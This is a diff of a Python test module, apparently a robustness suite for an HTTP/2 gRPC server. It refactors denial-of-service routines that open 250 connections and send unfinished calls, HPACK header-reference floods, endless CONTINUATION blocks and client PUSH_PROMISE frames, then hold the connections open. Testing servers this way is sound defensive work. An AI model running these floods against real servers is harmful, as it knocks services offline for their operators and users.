@@ -69,72 +69,58 @@ def batches(address):
             client.stream.close()
 
 
-def open_calls(address, fields):
-    """Calls that are opened and never finished, from 250 connections, with `fields` header fields by reference."""
-    crowd = []
-    # One field in the table, then named again and again by one byte.
-    block = wire.head(SERVICE + "Get", *wire.GRPC) + b"\x40\x01a\x01b" + b"\xbe" * fields
-    for _ in range(250):
+def crowd(address, seconds, sent):
+    """Opens 250 connections and keeps them open; connection `n` sends the frames `sent(n)` after its settings."""
+    streams = []
+    for number in range(250):
         try:
             stream = wire.dial(address)
-            calls = b"".join(wire.frame(wire.HEADERS, wire.END_HEADERS, 2 * i + 1, block) for i in range(100))
-            stream.sendall(wire.PREFACE + wire.frame(wire.SETTINGS, 0, 0) + calls)
-            crowd.append(stream)
+            stream.sendall(wire.PREFACE + wire.frame(wire.SETTINGS, 0, 0))
+            stream.sendall(sent(number))
+            streams.append(stream)
         except OSError:
-            pass  # the server may turn it away
-    time.sleep(3)  # the calls are open meanwhile, which is the attack
-    for stream in crowd:
+            pass  # the server may close it
+    time.sleep(seconds)  # the connections stay open meanwhile, which is the attack
+    for stream in streams:
         stream.close()
 
 
+def open_calls(address, fields):
+    """Calls that are opened and never finished, with `fields` header fields by reference."""
+    # One field in the table, then named again and again by one byte.
+    block = wire.head(SERVICE + "Get", *wire.GRPC) + b"\x40\x01a\x01b" + b"\xbe" * fields
+    calls = b"".join(wire.frame(wire.HEADERS, wire.END_HEADERS, 2 * i + 1, block) for i in range(100))
+    crowd(address, 3, lambda _: calls)
+
+
 def unfinished_headers(address):
-    """Header blocks that never end, from 250 connections: long lists of fields by reference, and long values."""
+    """Header blocks that never end: long lists of fields by reference, and long values."""
     blocks = [
         wire.head(SERVICE + "Get", *wire.GRPC) + b"\x40\x01a\x01b" + b"\xbe" * 1_900,
         wire.head(SERVICE + "Get", *wire.GRPC) + b"\x40\x01a" + wire.integer(60_000, 7) + bytes(59_000),
     ]
-    crowd = []
-    for number in range(250):
+
+    def sent(number):
         block = blocks[number % len(blocks)]
         pieces = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
-        frames = [wire.frame(wire.CONTINUATION, 0, 1, piece) for piece in pieces[1:]]
-        try:
-            stream = wire.dial(address)
-            start = wire.PREFACE + wire.frame(wire.SETTINGS, 0, 0)
-            # A promise is no frame of a client, but has a header block, too.
-            first = wire.frame(wire.HEADERS, 0, 1, pieces[0])
-            if number % 4 == 3:
-                first = wire.frame(5, 0, 1, struct.pack(">I", 2) + pieces[0])
-            stream.sendall(start + first + b"".join(frames))
-            crowd.append(stream)
-        except OSError:
-            pass  # the server may turn it away
-    time.sleep(3)  # the blocks stay unfinished meanwhile, which is the attack
-    for stream in crowd:
-        stream.close()
+        first = wire.frame(wire.HEADERS, 0, 1, pieces[0])
+        if number % 4 == 3:
+            # A client must not send PUSH_PROMISE, but it has a header block, too.
+            first = wire.frame(5, 0, 1, struct.pack(">I", 2) + pieces[0])
+        return first + b"".join(wire.frame(wire.CONTINUATION, 0, 1, piece) for piece in pieces[1:])
+
+    crowd(address, 3, sent)
 
 
 def kept_frames(address):
-    """Calls whose path enters the table of header fields and comes in a frame of 15 KB, from 250 connections."""
-    path = b"\x44" + wire.integer(2, 7)
-    crowd = []
-    for _ in range(250):
-        calls = (
-            wire.frame(
-                wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, 2 * i + 1,
-                path + b"/%c" % (33 + i) + wire.literal("a", "v" * 15_000))
-            for i in range(90))
-        try:
-            stream = wire.dial(address)
-            stream.sendall(wire.PREFACE + wire.frame(wire.SETTINGS, 0, 0))
-            for call in calls:
-                stream.sendall(call)
-            crowd.append(stream)
-        except OSError:
-            pass  # closed by the server
-    time.sleep(2)  # the connections stay, which is the attack
-    for stream in crowd:
-        stream.close()
+    """Calls whose path enters the table of header fields and comes in a frame of 15 KB."""
+    def call(i):
+        path = b"\x44" + wire.integer(2, 7) + b"/%c" % (33 + i)
+        block = path + wire.literal("a", "v" * 15_000)
+        return wire.frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, 2 * i + 1, block)
+
+    calls = b"".join(call(i) for i in range(90))
+    crowd(address, 2, lambda _: calls)
 
 
 def announced(address, connections):
